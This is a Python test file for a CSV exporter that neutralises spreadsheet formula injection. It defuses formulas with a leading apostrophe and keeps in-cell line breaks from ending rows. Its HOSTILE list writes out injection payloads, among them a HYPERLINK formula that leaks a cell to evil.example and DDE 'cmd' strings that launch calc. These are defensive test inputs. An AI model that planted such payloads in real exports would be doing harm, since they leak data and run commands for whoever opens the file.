"""CSV exports hold text customers and order systems wrote: a cell a spreadsheet would run as a
formula is written with an apostrophe first, a line end in a cell never ends the row, and
nothing else changes."""

from __future__ import annotations

import csv
import io

from bot.exports import CsvWriter, inert
from disputes.exports import Column, Kind

HOSTILE = [
    '=HYPERLINK("https://evil.example/?d="&A1,"refund")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def test_a_formula_gets_an_apostrophe_and_other_text_stays_as_it_is() -> None:
    for text in HOSTILE:
        assert inert(text) == "'" + text
    for text in ("the box was crushed", "", "D-7", "1+1", "-0.25", "+3", "-12", "1e-3", "'=x"):
        assert inert(text) == text


def test_only_text_cells_of_a_csv_export_are_made_inert() -> None:
    columns = [Column("claim", Kind.TEXT), Column("refunded_minor", Kind.INT)]
    target = io.BytesIO()
    writer = CsvWriter(target, columns)
    writer.write([(text, -500) for text in HOSTILE] + [("fine", None), (None, 7)])
    writer.close()
    lines = list(csv.reader(io.StringIO(target.getvalue().decode(), newline="")))
    assert lines[0] == ["claim", "refunded_minor"]
    written = ["'" + text.replace("\r", "\n") for text in HOSTILE]
    assert lines[1:] == [[text, "-500"] for text in written] + [["fine", ""], ["", "7"]]


def test_a_line_end_in_a_cell_never_ends_the_line() -> None:
    target = io.BytesIO()
    writer = CsvWriter(target, [Column("claim", Kind.TEXT), Column("n", Kind.INT)])
    writer.write([("one\rtwo", 1), ("three\r\nfour", 2), ("five\nsix", 3)])
    writer.close()
    lines = list(csv.reader(io.StringIO(target.getvalue().decode(), newline="")))
    assert lines == [["claim", "n"], ["one\ntwo", "1"], ["three\nfour", "2"], ["five\nsix", "3"]]
